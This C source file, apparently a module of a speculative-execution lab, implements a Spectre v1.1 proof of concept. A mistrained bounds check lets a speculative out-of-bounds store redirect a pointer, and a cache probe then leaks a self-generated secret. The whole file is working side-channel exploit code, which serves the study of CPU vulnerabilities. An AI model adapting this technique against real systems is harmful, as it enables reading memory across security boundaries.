/*
 * Spectre v1.1: a bounds check is predicted to pass, and the *store* behind it runs with an index that is too large.
 *
 * The store overwrites the pointer that lies behind the array. It never becomes visible, but younger loads of the
 * same window get its data from the store queue: the victim follows the attacker's pointer to the secret.
 */
#include "lab.h"

static const char ABOUT[] = "nobody through victim(): it follows no pointer but its own";

static struct { u64 length, rest[7]; } bound __attribute__((aligned(LINE))) = {8, {0}};
static const u8 open_text[LINE] __attribute__((aligned(LINE)));
static struct { u64 slots[8]; const u8 *cursor; } table __attribute__((aligned(LINE)));
static u8 secret[MOST] __attribute__((aligned(LINE)));

NOINLINE static void victim(u64 index, u64 value)
{
    u64 chosen = 0;
    if (index < bound.length)
        table.slots[index] = value;
    /* Some arithmetic chooses the cursor. Without it the load might come before the store. */
    __asm__ volatile(".rept 8\n\timul $3, %0, %0\n\t.endr" : "+r"(chosen));
    touch(probe + *(&table.cursor)[chosen] * STRIDE);
}

static int prepare(u64 bytes)
{
    make_secret(secret, bytes);
    table.cursor = open_text;
    ignored[open_text[0]] = 1;
    return 1;
}

static void attempt(u64 index)
{
    u64 behind = &table.cursor - (const u8 **)table.slots;
    flush_probe();
    for (int more = trainings(); more >= 0; more--) {
        touch(secret + index);
        flush(&bound.length);
        fence();
        victim(pick(more == 0, behind, more & 7), (u64)(secret + index));
    }
}

static void done(void)
{
}
